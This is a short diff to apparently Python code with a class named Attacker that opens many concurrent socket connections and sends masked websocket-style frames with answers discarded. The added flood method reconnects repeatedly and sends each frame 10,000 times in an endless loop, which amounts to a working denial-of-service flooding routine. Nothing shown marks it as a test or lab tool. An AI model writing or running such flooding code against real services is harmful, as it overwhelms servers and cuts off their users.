@@ -12,6 +12,7 @@ from typing import NamedTuple
 
 from msgspec import json
 
+FLOODED = 10_000  # frames in one go
 HANDS = 8  # connections at once
 MOST_HELD = 200 // HANDS  # connections an address may have open, for each hand
 
@@ -64,6 +65,17 @@ class Attacker:
     def talk(self, *messages: Mapping[str, object]) -> None:
         """Messages through a socket whose answers are thrown away, for ever."""
         self.send(*(masked(json.encode(message)) for message in messages))
+
+    def flood(self, frame: bytes, first: bytes = b"") -> None:
+        """One frame after another through sockets as fast as they are taken, for ever."""
+        while True:
+            with suppress(OSError), self._joined(self.aim.table) as raw:
+                raw.setblocking(True)
+                raw.settimeout(5)
+                raw.sendall(first)
+                while True:
+                    raw.sendall(frame * FLOODED)
+            time.sleep(0.1)
 
     def send(self, *frames: bytes) -> None:
         """Frames through a socket whose answers are thrown away, for ever."""
